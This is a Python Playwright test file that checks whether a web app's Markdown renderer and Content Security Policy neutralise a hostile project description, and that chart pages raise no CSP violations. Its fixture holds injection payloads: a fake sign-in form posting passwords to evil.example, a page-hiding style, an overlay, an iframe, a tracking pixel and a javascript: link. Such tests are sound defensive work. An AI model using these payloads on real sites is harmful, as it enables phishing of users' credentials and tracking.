"""In a real browser, under the server's CSP: a hostile project description renders inert and the UI still works."""

from __future__ import annotations

from playwright.sync_api import expect

HOSTILE = """# Notes

<style>body { display: none }</style>

<div style="position:fixed;inset:0;z-index:9999;background:white">Session expired</div>

<form action="https://evil.example/steal" method="post"><input type="password" name="p"><button>Sign in</button></form>

<iframe src="https://evil.example/"></iframe>

![tracker](https://evil.example/pixel.png)

[click me](javascript:alert(1)) and [docs](https://docs.example/)

- [x] done
"""


def test_hostile_description_is_inert(yard, page) -> None:  # noqa: ANN001
    yard.client.create_project("ui-sec-markdown", description=HOSTILE)
    resp = page.goto(f"{yard.url}/projects/ui-sec-markdown")
    assert resp is not None and "default-src 'self'" in resp.headers["content-security-policy"]
    md = page.locator(".markdown")
    expect(md.locator("h1")).to_have_text("Notes")
    for selector in ("style", "form", "input", "button", "iframe", "[style]", "img", "div", "script"):
        expect(md.locator(selector)).to_have_count(0)
    expect(md).to_contain_text('<form action="https://evil.example/steal"')  # shown as text
    expect(md.get_by_text("click me")).to_be_visible()
    expect(md.locator("a[href^='javascript']")).to_have_count(0)
    links = md.locator("a")
    for i in range(links.count()):
        assert "noreferrer" in (links.nth(i).get_attribute("rel") or "")
    expect(md.locator("a[href='https://evil.example/pixel.png']")).to_have_text("image: tracker")
    expect(page.locator("h1").first).to_be_visible()  # the page itself still shows
    assert not [e for e in page.console_errors if "Content Security Policy" in e], page.console_errors


def test_pages_with_charts_and_tables_break_no_csp_rule(yard, page) -> None:  # noqa: ANN001
    """Charts (uPlot), the virtual runs table and the run page set styles through the DOM only: the CSP allows them."""
    c = yard.client
    c.create_project("ui-sec-csp", description="**charts**")
    run = c.create_run("ui-sec-csp", name="csp", params={"lr": 0.1})
    c.log_metrics(run["id"], ["loss"] * 20, list(range(20)), [1.0 / (i + 1) for i in range(20)], [1.7e9 + i for i in range(20)])
    violations: list[str] = []
    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
    page.goto(f"{yard.url}/projects/ui-sec-csp")
    expect(page.locator(".markdown strong")).to_have_text("charts")
    page.goto(f"{yard.url}/runs/{run['id']}")
    expect(page.locator("canvas").first).to_be_visible()
    page.goto(f"{yard.url}/")
    expect(page.get_by_text("ui-sec-csp").first).to_be_visible()
    assert not violations, violations
